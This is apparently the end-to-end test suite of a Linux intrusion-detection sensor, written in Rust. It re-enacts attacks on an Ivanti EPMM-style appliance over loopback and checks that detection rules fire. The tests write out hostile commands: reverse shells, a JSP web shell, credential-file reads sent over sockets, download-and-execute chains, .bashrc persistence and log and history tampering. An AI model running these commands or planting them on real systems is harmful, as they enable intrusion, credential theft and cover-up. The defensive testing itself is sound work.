//! Detection end to end: attacks on an EPMM appliance re-enacted with real processes and
//! loopback sockets, seen by the real probes, raised by the default rule pack (and by
//! SigmaHQ rules), with ancestry and evidence. Benign activity raises nothing.

use std::{
    io::{Read, Write},
    net::TcpListener,
    os::unix::fs::PermissionsExt,
    process::{Command, Stdio},
    time::Duration,
};

use sensor_e2e::{
    Agent, ReverseShell, Scratch, alert_of, marker, num, output_retrying, status_retrying,
    tomcat_reenact,
};
use serde_json::Value;

fn ancestry_pids(alert: &Value) -> Vec<u64> {
    alert["ancestry"]
        .as_array()
        .map(|a| a.iter().map(|p| num(&p["pid"])).collect())
        .unwrap_or_default()
}

/// Sleeper-shell style: the Tomcat JVM runs `sh -c` with a downloader (CVE-2025-4428,
/// the 403.jsp commands). B2 names the JVM as the lineage source; Sigma's "Suspicious
/// Java Children Processes" fires too.
#[test]
fn tomcat_runtime_exec_of_sh_with_a_downloader() {
    let sigma = sensor_e2e::sigma_linux_rules();
    let mut agent = Agent::start(&["--sigma", sigma.to_str().unwrap()]);
    let tag = marker("b2");
    let out = tomcat_reenact(&[
        "exec",
        "/bin/sh",
        "-c",
        &format!("curl -s -m 2 http://127.0.0.1:9/{tag} || true"),
    ])
    .output()
    .unwrap();
    assert!(out.status.success(), "{out:?}");

    let line = agent.wait_for("EPMM-B2", |l| {
        alert_of(l, "EPMM-B2").is_some_and(|a| a["process"]["argv"].to_string().contains(&tag))
    });
    let alert = &line["alert"];
    assert_eq!(alert["severity"], "SEVERITY_HIGH");
    assert_eq!(alert["techniques"][1], "T1059.004");
    assert_eq!(alert["lineage"]["identity"], "tomcat");
    let jvm = num(&alert["lineage"]["sourcePid"]);
    assert!(
        alert["lineage"]["sourceExe"]
            .as_str()
            .unwrap()
            .ends_with("/java")
    );
    assert_eq!(
        num(&alert["process"]["ppid"]),
        jvm,
        "the JVM process, not its worker thread"
    );
    let chain = ancestry_pids(alert);
    assert_eq!(chain[0], jvm);
    assert_eq!(*chain.last().unwrap(), 1, "ancestry up to pid 1");
    assert_eq!(
        alert["evidence"][0]["exec"]["parentThreadComm"],
        "http-bio-127.0."
    );
    assert!(!alert["host"].as_str().unwrap().is_empty());
    assert!(alert["agentId"].as_str().unwrap().starts_with("agent-"));

    // The JVM's child sh (its command line names curl): Sigma's rule, compiled into our
    // matcher, with the rule's level, ATT&CK tags and the fields that matched.
    let line = agent.wait_for("Sigma: Suspicious Java Children Processes", |l| {
        l.get("alert").is_some_and(|a| {
            a["ruleId"].as_str().unwrap_or("").starts_with("sigma:")
                && a["title"] == "Suspicious Java Children Processes"
                && a["process"]["argv"].to_string().contains(&tag)
        })
    });
    let sigma_alert = &line["alert"];
    assert_eq!(sigma_alert["severity"], "SEVERITY_HIGH");
    assert_eq!(sigma_alert["techniques"][0], "T1059");
    let details = &sigma_alert["details"];
    assert!(
        details["ParentImage"].as_str().unwrap().ends_with("/java"),
        "{details}"
    );
    assert!(
        details["CommandLine"].as_str().unwrap().contains(&tag),
        "{details}"
    );
    assert_eq!(
        sigma_alert["evidence"][0]["exec"]["filename"]
            .as_str()
            .map(|f| f.ends_with("sh")),
        Some(true),
        "{sigma_alert}"
    );
    agent.stop();
}

/// `from` copied to `to`, executable.
fn install(from: impl AsRef<std::path::Path>, to: &std::path::Path) {
    std::fs::copy(from, to).unwrap();
    std::fs::set_permissions(to, std::fs::Permissions::from_mode(0o755)).unwrap();
}

/// A request served by a RewriteMap helper `script` (installed as
/// `DIR/mi/bin/map-appstore-url`) under a bash named `httpd`, with `env` added; returns
/// what the helper printed. The helper's path comes through the environment: httpd's own
/// argv does not name it.
fn serve_through_helper(dir: &Scratch, script: &str, env: &[(&str, &std::path::Path)]) -> String {
    std::fs::create_dir_all(dir.path("mi/bin")).unwrap();
    let httpd = dir.path("httpd");
    install("/bin/bash", &httpd);
    let helper = dir.path("mi/bin/map-appstore-url");
    std::fs::write(&helper, script).unwrap();
    std::fs::set_permissions(&helper, std::fs::Permissions::from_mode(0o755)).unwrap();
    let out = output_retrying(
        Command::new(&httpd)
            .args(["-c", "echo request | \"$HELPER\""])
            .env("HELPER", &helper)
            .envs(env.iter().copied()),
    );
    String::from_utf8_lossy(&out.stdout).into_owned()
}

/// CVE-2026-1281/1340: a bash RewriteMap helper under an httpd-named parent evaluates an
/// injected command substitution in a forked subshell, which runs `id`.
#[test]
fn rewritemap_helper_subshell_runs_id() {
    let mut agent = Agent::start(&[]);
    let dir = Scratch::new("b1");
    // A helper that, like the vulnerable script, lets an arithmetic context run `id`.
    let served = serve_through_helper(
        &dir,
        "#!/bin/bash\nread -r line\ngPath=(x)\ntheValue='gPath[$(id >/dev/null; echo 0)]'\n[[ 1 -gt ${theValue} ]] && echo served\n",
        &[],
    );
    assert!(served.contains("served"), "{served:?}");

    let line = agent.wait_for("EPMM-B1", |l| {
        alert_of(l, "EPMM-B1")
            .is_some_and(|a| a["process"]["exe"].as_str().unwrap_or("").ends_with("/id"))
    });
    let alert = &line["alert"];
    assert_eq!(alert["severity"], "SEVERITY_CRITICAL");
    assert_eq!(alert["lineage"]["identity"], "rewritemap-helper");
    // id's parent is the forked subshell of the helper, whose parent is the helper.
    let ancestry = alert["ancestry"].as_array().unwrap();
    let helper_pid = num(&alert["lineage"]["sourcePid"]);
    assert!(ancestry.iter().any(|p| num(&p["pid"]) == helper_pid));
    assert!(
        ancestry
            .iter()
            .any(|p| p["exe"].as_str().unwrap_or("").ends_with("/httpd")),
        "the httpd-named parent is in the ancestry: {ancestry:?}"
    );
    agent.stop();
}

/// The helpers' baseline is the program, not its argv: a helper that runs the genuine
/// `date +%s` stays quiet; one that runs a dropped binary as `exec -a date PAYLOAD +%s`
/// (argv identical to the baseline) raises EPMM-B1.
#[test]
fn a_forged_argv0_does_not_pass_for_the_helpers_baseline() {
    let mut agent = Agent::start(&[]);
    let dir = Scratch::new("argv0");
    let payload = dir.path("payload");
    install("/bin/true", &payload);
    let served = serve_through_helper(
        &dir,
        "#!/bin/bash\nread -r line\ndate +%s >/dev/null\n(exec -a date \"$PAYLOAD\" +%s)\necho served\n",
        &[("PAYLOAD", &payload)],
    );
    assert!(served.contains("served"), "{served:?}");

    let exe = payload.to_str().unwrap().to_owned();
    let line = agent.wait_for("EPMM-B1 on the forged date", |l| {
        alert_of(l, "EPMM-B1").is_some_and(|a| a["process"]["exe"] == exe.as_str())
    });
    assert_eq!(
        line["alert"]["process"]["argv"],
        serde_json::json!(["date", "+%s"]),
        "argv is the baseline's, word for word"
    );
    let genuine = agent.collect(Duration::from_millis(200), |l| {
        alert_of(l, "EPMM-B1").is_some_and(|a| {
            a["process"]["exe"]
                .as_str()
                .unwrap_or("")
                .ends_with("/date")
                && a["lineage"]["sourceArgv"].to_string().contains(dir.str())
        })
    });
    assert!(
        genuine.is_empty(),
        "the real date +%s is baseline: {genuine:?}"
    );
    agent.stop();
}

/// An exemption cannot be borrowed by a name: a shell copied to `rpm` and `dnf` (names of
/// package managers, which may run programs from temporary directories) runs a payload
/// from a writable directory; EPMM-B17 still fires under each wrapper.
#[test]
fn a_package_manager_name_exempts_nothing() {
    let mut agent = Agent::start(&[]);
    let dir = Scratch::new("wrapper");
    let payload = dir.path("payload");
    install("/bin/true", &payload);
    for name in ["rpm", "dnf"] {
        let wrapper = dir.path(name);
        install("/bin/bash", &wrapper);
        let status = status_retrying(
            Command::new(&wrapper)
                // `; true`: bash forks for the payload instead of exec-ing over itself.
                .args(["-c", &format!("{} --{name}; true", payload.display())]),
        );
        assert!(status.success());
        let wrapper = wrapper.to_str().unwrap().to_owned();
        let line = agent.wait_for(&format!("EPMM-B17 under {name}"), |l| {
            alert_of(l, "EPMM-B17").is_some_and(|a| {
                a["process"]["argv"]
                    .to_string()
                    .contains(&format!("--{name}"))
                    && a["ancestry"][0]["exe"] == wrapper.as_str()
            })
        });
        assert_eq!(line["alert"]["techniques"][0], "T1036.005");
    }
    agent.stop();
}

/// `bash -i >& /dev/tcp/127.0.0.1/PORT 0>&1`.
#[test]
fn bash_reverse_shell_to_a_loopback_listener() {
    let mut agent = Agent::start(&[]);
    let shell = ReverseShell::start(&marker("b7"));
    let port = shell.port;
    let parent = shell.exit();

    let line = agent.wait_for("EPMM-B7", |l| {
        alert_of(l, "EPMM-B7").is_some_and(|a| num(&a["process"]["ppid"]) == u64::from(parent))
    });
    let alert = &line["alert"];
    assert_eq!(alert["severity"], "SEVERITY_CRITICAL");
    let stdio = &alert["evidence"][0]["exec"]["stdio"];
    assert_eq!(num(&stdio[0]["socket"]["remotePort"]), u64::from(port));
    agent.stop();
}

/// A Java-native reverse shell: the JVM connects out, then feeds /bin/sh through pipes.
#[test]
fn java_native_reverse_shell() {
    let mut agent = Agent::start(&[]);
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let mut jvm = tomcat_reenact(&["revshell", "127.0.0.1", &port.to_string()])
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    let (mut conn, _) = listener.accept().unwrap();
    conn.set_read_timeout(Some(Duration::from_secs(20)))
        .unwrap();
    conn.write_all(b"echo pwned-$((6*7)); exit\n").unwrap();
    let mut got = String::new();
    let _ = conn.read_to_string(&mut got);
    assert!(got.contains("pwned-42"), "the shell answered: {got:?}");
    let _ = jvm.wait();

    let line = agent.wait_for("EPMM-B8", |l| {
        alert_of(l, "EPMM-B8").is_some_and(|a| num(&a["process"]["ppid"]) == u64::from(jvm.id()))
    });
    let alert = &line["alert"];
    let evidence = alert["evidence"].as_array().unwrap();
    assert_eq!(evidence.len(), 2, "the connect and the shell");
    assert_eq!(
        num(&evidence[0]["connect"]["socket"]["remotePort"]),
        u64::from(port)
    );
    assert_eq!(evidence[1]["exec"]["stdio"][0]["kind"], "FD_KIND_PIPE");
    // No socket ever reached the shell's descriptors: the fd-based rule stays quiet.
    let b7 = agent.collect(Duration::from_millis(100), |l| {
        alert_of(l, "EPMM-B7").is_some_and(|a| num(&a["process"]["ppid"]) == u64::from(jvm.id()))
    });
    assert!(b7.is_empty());
    agent.stop();
}

/// The same Java-native reverse shell with the JVM waiting 6 s between its connect and the
/// shell: past any connect-then-shell window (EPMM-B8 stays quiet), the socket the JVM
/// still holds links them (EPMM-B8-SOCKET).
#[test]
fn a_delayed_java_native_reverse_shell_is_linked_by_its_socket() {
    let mut agent = Agent::start(&[]);
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let mut jvm = tomcat_reenact(&["revshell", "127.0.0.1", &port.to_string(), "6000"])
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    let (mut conn, _) = listener.accept().unwrap();
    conn.set_read_timeout(Some(Duration::from_secs(30)))
        .unwrap();
    // An interactive session: the connection stays up while the operator types, as the
    // agent reads which connections the JVM holds when the shell starts.
    conn.write_all(b"echo late-$((6*7))\n").unwrap();
    let mut got = Vec::new();
    let mut buf = [0u8; 256];
    while !String::from_utf8_lossy(&got).contains("late-42") {
        match conn.read(&mut buf) {
            Ok(0) | Err(_) => break,
            Ok(n) => got.extend_from_slice(&buf[..n]),
        }
    }
    assert!(
        String::from_utf8_lossy(&got).contains("late-42"),
        "the shell answered: {:?}",
        String::from_utf8_lossy(&got)
    );
    let line = agent.wait_for("EPMM-B8-SOCKET", |l| {
        alert_of(l, "EPMM-B8-SOCKET")
            .is_some_and(|a| num(&a["process"]["ppid"]) == u64::from(jvm.id()))
    });
    conn.write_all(b"exit\n").unwrap();
    let mut rest = String::new();
    let _ = conn.read_to_string(&mut rest);
    let _ = jvm.wait();
    let alert = &line["alert"];
    assert_eq!(alert["techniques"][0], "T1059.004");
    let exec = &alert["evidence"][0]["exec"];
    assert_eq!(exec["stdio"][0]["kind"], "FD_KIND_PIPE");
    assert_eq!(
        num(&exec["parentConnections"][0]["remotePort"]),
        u64::from(port),
        "the JVM's socket is the evidence: {exec}"
    );
    let b8 = agent.collect(Duration::from_millis(100), |l| {
        alert_of(l, "EPMM-B8").is_some_and(|a| num(&a["process"]["ppid"]) == u64::from(jvm.id()))
    });
    assert!(b8.is_empty(), "6 s is past EPMM-B8's window");
    agent.stop();
}

/// Secrets, then a connection out: a shell that cats the MySQL credentials and then
/// opens a socket, and a python one-liner that reads the Tomcat properties and sends
/// them, each from the web tier (one JVM each), raise EPMM-B11-EXFIL (T1552.001).
#[test]
fn secrets_read_then_sent_out_from_the_web_tier() {
    let mut agent = Agent::start(&[]);
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let python = format!(
        "import socket\ntry:\n    data = open('/mi/tomcat-properties/mi.properties').read()\nexcept OSError:\n    data = ''\ns = socket.create_connection(('127.0.0.1', {port}))\ns.sendall(data.encode() + b'x')\ns.close()\n"
    );
    let shell = format!(
        "cat /mi/files/system/.mifpp 2>/dev/null; exec 3<>/dev/tcp/127.0.0.1/{port}; echo x >&3"
    );
    // bash for /dev/tcp (dash has none).
    let steps = [
        ("cat", vec!["exec", "/bin/bash", "-c", shell.as_str()]),
        ("python3", vec!["exec", "python3", "-c", python.as_str()]),
    ];
    for (what, args) in steps {
        let mut jvm = tomcat_reenact(&args)
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .unwrap();
        let (mut conn, _) = listener.accept().unwrap();
        conn.set_read_timeout(Some(Duration::from_secs(20)))
            .unwrap();
        let mut got = [0u8; 1];
        let _ = conn.read(&mut got);
        drop(conn);
        let _ = jvm.wait();
        let line = agent.wait_for(&format!("EPMM-B11-EXFIL after {what}"), |l| {
            alert_of(l, "EPMM-B11-EXFIL")
                .is_some_and(|a| a["lineage"]["sourcePid"] == serde_json::json!(jvm.id()))
        });
        let alert = &line["alert"];
        assert_eq!(alert["techniques"][0], "T1552.001");
        let evidence = alert["evidence"].as_array().unwrap();
        assert_eq!(evidence.len(), 2, "{what}: the read and the connect");
        assert_eq!(
            num(&evidence[1]["connect"]["socket"]["remotePort"]),
            u64::from(port)
        );
    }
    agent.stop();
}

/// Who wrote it: one Tomcat request drops an executable, another (a separate JVM, so no
/// sequence ties them) runs it: EPMM-B5-WRITTEN. A file the test itself wrote and ran
/// raises nothing of the kind.
#[test]
fn a_payload_the_web_tier_wrote_is_known_by_its_writer() {
    let mut agent = Agent::start(&[]);
    let payload = format!("/tmp/{}", marker("dropped"));
    let out = tomcat_reenact(&[
        "exec",
        "/bin/sh",
        "-c",
        &format!("cp /bin/true {payload}; chmod 755 {payload}"),
    ])
    .output()
    .unwrap();
    assert!(out.status.success(), "{out:?}");
    let out = tomcat_reenact(&["exec", &payload]).output().unwrap();
    assert!(out.status.success(), "{out:?}");
    let own = format!("/tmp/{}", marker("own"));
    install("/bin/true", std::path::Path::new(&own));
    assert!(status_retrying(&mut Command::new(&own)).success());

    let line = agent.wait_for("EPMM-B5-WRITTEN", |l| {
        alert_of(l, "EPMM-B5-WRITTEN").is_some_and(|a| a["process"]["exe"] == payload.as_str())
    });
    assert_eq!(line["alert"]["techniques"][0], "T1105");
    let sentinel = format!("/tmp/{}", marker("sentinel"));
    let out = tomcat_reenact(&[
        "exec",
        "/bin/sh",
        "-c",
        &format!("cp /bin/true {sentinel}; chmod 755 {sentinel}; {sentinel}"),
    ])
    .output()
    .unwrap();
    assert!(out.status.success());
    agent.wait_for("the sentinel", |l| {
        alert_of(l, "EPMM-B5-WRITTEN").is_some_and(|a| a["process"]["exe"] == sentinel.as_str())
    });
    let quiet = agent.collect(Duration::from_millis(100), |l| {
        alert_of(l, "EPMM-B5-WRITTEN").is_some_and(|a| a["process"]["exe"] == own.as_str())
    });
    for f in [&payload, &own, &sentinel] {
        let _ = std::fs::remove_file(f);
    }
    assert!(quiet.is_empty(), "{quiet:?}");
    agent.stop();
}

/// A payload executed from a memfd.
#[test]
fn memfd_execution_raises_b16() {
    let mut agent = Agent::start(&[]);
    let tag = marker("memfd");
    let script = format!(
        "import os\nfd = os.memfd_create('{tag}')\nos.write(fd, open('/bin/true', 'rb').read())\nos.execve(fd, ['kworker'], {{}})\n"
    );
    let status = Command::new("/usr/bin/python3")
        .args(["-c", &script])
        .status()
        .unwrap();
    assert!(status.success());
    let line = agent.wait_for("EPMM-B16", |l| {
        alert_of(l, "EPMM-B16").is_some_and(|a| a["process"]["exe"] == format!("/memfd:{tag}"))
    });
    assert_eq!(line["alert"]["severity"], "SEVERITY_CRITICAL");
    agent.stop();
}

/// curl downloads a payload from a loopback HTTP server, chmod +x, then runs it.
#[test]
fn download_chmod_execute_from_tmp() {
    let mut agent = Agent::start(&[]);
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let server = std::thread::spawn(move || {
        let body = std::fs::read("/bin/true").unwrap();
        let (mut conn, _) = listener.accept().unwrap();
        let mut request = [0u8; 1024];
        let _ = conn.read(&mut request);
        let header = format!("HTTP/1.0 200 OK\r\nContent-Length: {}\r\n\r\n", body.len());
        conn.write_all(header.as_bytes()).unwrap();
        conn.write_all(&body).unwrap();
    });
    let payload = format!("/tmp/{}", marker("kl"));
    let status = Command::new("/bin/sh")
        .args([
            "-c",
            &format!(
                "curl -s -o {payload} http://127.0.0.1:{port}/kl && chmod +x {payload} && {payload}"
            ),
        ])
        .status()
        .unwrap();
    server.join().unwrap();
    let _ = std::fs::remove_file(&payload);
    assert!(status.success());

    let line = agent.wait_for("EPMM-B5", |l| {
        alert_of(l, "EPMM-B5").is_some_and(|a| a["process"]["exe"] == payload.as_str())
    });
    let evidence = line["alert"]["evidence"].as_array().unwrap();
    assert_eq!(evidence.len(), 3);
    assert!(evidence[0]["exec"]["argv"].to_string().contains("curl"));
    assert_eq!(evidence[1]["file"]["path"], payload.as_str());
    // Running from /tmp is B17 as well.
    agent.wait_for("EPMM-B17", |l| {
        alert_of(l, "EPMM-B17").is_some_and(|a| a["process"]["exe"] == payload.as_str())
    });
    agent.stop();
}

/// A JSP written into a web root (configured by the test: an override of `webroot_dirs`,
/// which makes the probes watch it) by a shell.
#[test]
fn jsp_written_into_the_web_root_by_a_shell() {
    let web = Scratch::new("webroot");
    let rules = Scratch::new("rules");
    std::fs::write(
        rules.path("local.yaml"),
        format!(
            "lists:\n  - name: webroot_dirs\n    items: [\"{}/\"]\n",
            web.str()
        ),
    )
    .unwrap();
    // No --watch: the probes watch what the loaded rules look at.
    let mut agent = Agent::start(&["--rules", rules.str()]);
    let status = Command::new("/bin/sh")
        .args([
            "-c",
            "echo '<% Runtime.getRuntime().exec(request.getParameter(\"c\")); %>' > 403.jsp",
        ])
        .current_dir(&web.0)
        .status()
        .unwrap();
    assert!(status.success());
    let jsp = format!("{}/403.jsp", web.str());
    let line = agent.wait_for("EPMM-B9", |l| {
        alert_of(l, "EPMM-B9").is_some_and(|a| a["evidence"][0]["file"]["path"] == jsp.as_str())
    });
    assert_eq!(
        line["alert"]["process"]["exe"],
        std::fs::canonicalize("/bin/sh").unwrap().to_str().unwrap()
    );
    assert!(
        line["alert"]["source"]
            .as_str()
            .unwrap()
            .starts_with("<embedded>"),
        "the pack's rule, with the operator's list"
    );
    agent.stop();
}

/// What injected code does to stay and to cover itself, from the Tomcat JVM's shell:
/// persistence in a service user's home (a profile line, a systemd user timer), a served
/// JSP timestomped, a log emptied by a redirection (a truncating open of a file that was
/// there) and the shell history linked to /dev/null. Each raises its rule with its ATT&CK
/// technique; the homes are watched by name, the web root and log by the rules' lists.
#[test]
fn persistence_and_anti_forensics_from_the_web_tier() {
    let home = Scratch::new("home");
    let web = Scratch::new("served");
    let logs = Scratch::new("logs");
    let rules = Scratch::new("rules");
    std::fs::write(
        rules.path("local.yaml"),
        format!(
            "lists:\n  - name: webroot_dirs\n    items: [\"{}/\"]\nappend:\n  - name: log_paths\n    items: [\"{}/\"]\n",
            web.str(),
            logs.str()
        ),
    )
    .unwrap();
    let jsp = web.path("403.jsp");
    std::fs::write(&jsp, "<% %>").unwrap();
    let log = logs.path("https-access_log");
    std::fs::write(&log, "GET /mifs/\n".repeat(50)).unwrap();
    std::fs::create_dir_all(home.path(".config/systemd/user")).unwrap();
    let mut agent = Agent::start(&["--rules", rules.str()]);

    let h = home.str();
    // One JVM per step: alerts of one rule in one process tree are collapsed into one.
    let steps = [
        format!("echo 'curl -s http://127.0.0.1:9/b | sh' >> {h}/.bashrc"),
        format!("printf '[Timer]\\nOnCalendar=*:0/5\\n' > {h}/.config/systemd/user/update.timer"),
        format!("touch -r /etc/hostname {}", jsp.display()),
        format!(": > {}", log.display()),
        format!("ln -sf /dev/null {h}/.bash_history"),
    ];
    for step in &steps {
        let out = tomcat_reenact(&["exec", "/bin/sh", "-c", step])
            .output()
            .unwrap();
        assert!(out.status.success(), "{step}: {out:?}");
    }

    let expect = [
        ("EPMM-B18-USER", format!("{h}/.bashrc"), "T1546.004"),
        (
            "EPMM-B18-USER",
            format!("{h}/.config/systemd/user/update.timer"),
            "T1543.002",
        ),
        ("EPMM-B23-TIMESTOMP", jsp.display().to_string(), "T1070.006"),
        ("EPMM-B23", log.display().to_string(), "T1070.002"),
        (
            "EPMM-B23-HISTORY",
            format!("{h}/.bash_history"),
            "T1070.003",
        ),
    ];
    for (rule, path, technique) in &expect {
        let line = agent.wait_for(&format!("{rule} on {path}"), |l| {
            alert_of(l, rule).is_some_and(|a| {
                a["evidence"]
                    .as_array()
                    .is_some_and(|ev| ev.iter().any(|e| e["file"]["path"] == path.as_str()))
            })
        });
        let techniques = line["alert"]["techniques"].to_string();
        assert!(techniques.contains(technique), "{rule}: {techniques}");
        assert_eq!(line["alert"]["lineage"]["identity"], "tomcat", "{rule}");
    }
    agent.stop();
}

/// The JVM's own child plumbing, an administrator's shell session and a package query
/// raise nothing.
#[test]
fn benign_activity_raises_nothing() {
    let mut agent = Agent::start(&[]);
    let benign = marker("benign");
    let out = tomcat_reenact(&["exec", "/usr/bin/true", &benign])
        .output()
        .unwrap();
    assert!(out.status.success(), "{out:?}");
    let admin = Command::new("/bin/bash")
        .args([
            "-c",
            &format!("ls -l /etc >/dev/null; id >/dev/null; uname -a >/dev/null; hostname >/dev/null; dpkg -l >/dev/null # {benign}"),
        ])
        .status()
        .unwrap();
    assert!(admin.success());
    // Something that does alert, afterwards: once it is seen, the benign activity's
    // alerts (if any) would have been seen too.
    ReverseShell::start(&marker("sentinel")).exit();
    agent.wait_for("the sentinel alert", |l| alert_of(l, "EPMM-B7").is_some());

    // Alerts whose process or any ancestor carries the benign marker.
    let jvm_or_admin = agent.collect(Duration::from_millis(200), |l| {
        l.get("alert").is_some_and(|a| {
            a["process"]["argv"].to_string().contains(&benign)
                || a["ancestry"].to_string().contains(&benign)
        })
    });
    assert!(
        jvm_or_admin.is_empty(),
        "benign activity alerted: {jvm_or_admin:#?}"
    );
    agent.stop();
}

/// A Tomcat started before the agent is seeded from /proc, labelled, and named as the
/// lineage source and in the ancestry of what it starts later.
#[test]
fn tomcat_started_before_the_agent_is_in_the_ancestry() {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    // The JVM connects, then waits for input before starting its shell.
    let mut jvm = tomcat_reenact(&["revshell", "127.0.0.1", &port.to_string()])
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    let (mut conn, _) = listener.accept().unwrap();
    // The shell is already running; the agent starts now.
    let mut agent = Agent::start(&[]);
    let tag = marker("preexisting");
    conn.write_all(format!("/bin/sh -c 'echo {tag}'; exit\n").as_bytes())
        .unwrap();
    let mut got = String::new();
    conn.set_read_timeout(Some(Duration::from_secs(20)))
        .unwrap();
    let _ = conn.read_to_string(&mut got);
    let _ = jvm.wait();
    let line = agent.wait_for("EPMM-B2 from the pre-existing JVM", |l| {
        alert_of(l, "EPMM-B2").is_some_and(|a| a["process"]["argv"].to_string().contains(&tag))
    });
    let alert = &line["alert"];
    assert_eq!(num(&alert["lineage"]["sourcePid"]), u64::from(jvm.id()));
    assert!(ancestry_pids(alert).contains(&u64::from(jvm.id())));
    assert!(
        alert["ancestry"].to_string().contains("catalina.base"),
        "the JVM's argv came from /proc"
    );
    agent.stop();
}

/// A shell or interpreter is recognised by its content, not its name: bash copied to a
/// name no list has, and perl under a versioned name, each with a socket on its stdio,
/// are reverse shells.
#[test]
fn a_renamed_shell_or_interpreter_on_a_socket_is_a_reverse_shell() {
    use std::os::fd::OwnedFd;
    let mut agent = Agent::start(&["--collapse", "0"]);
    let dir = Scratch::new("renamed");
    for (installed, name, args) in [
        ("/bin/bash", "kworker", vec!["-c", "exit 0"]),
        ("/usr/bin/perl", "perl5.99", vec!["-e", "0"]),
    ] {
        let copy = dir.path(name);
        install(installed, &copy);
        let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
        let conn = std::net::TcpStream::connect(listener.local_addr().unwrap()).unwrap();
        let _peer = listener.accept().unwrap();
        let fd = |s: &std::net::TcpStream| Stdio::from(OwnedFd::from(s.try_clone().unwrap()));
        let status = status_retrying(
            Command::new(&copy)
                .args(&args)
                .stdin(fd(&conn))
                .stdout(fd(&conn))
                .stderr(fd(&conn)),
        );
        assert!(status.success(), "{name}");
        let exe = copy.to_str().unwrap().to_owned();
        let line = agent.wait_for(&format!("EPMM-B7 on {name}"), |l| {
            alert_of(l, "EPMM-B7").is_some_and(|a| a["process"]["exe"] == exe.as_str())
        });
        let identity = &line["alert"]["process"]["exeIdentity"];
        assert!(
            identity["shell"] == true || identity["interpreter"] == true,
            "{name}: {identity}"
        );
        assert_eq!(
            identity["package"],
            Value::Null,
            "{name}: a copy has no package"
        );
    }
    agent.stop();
}
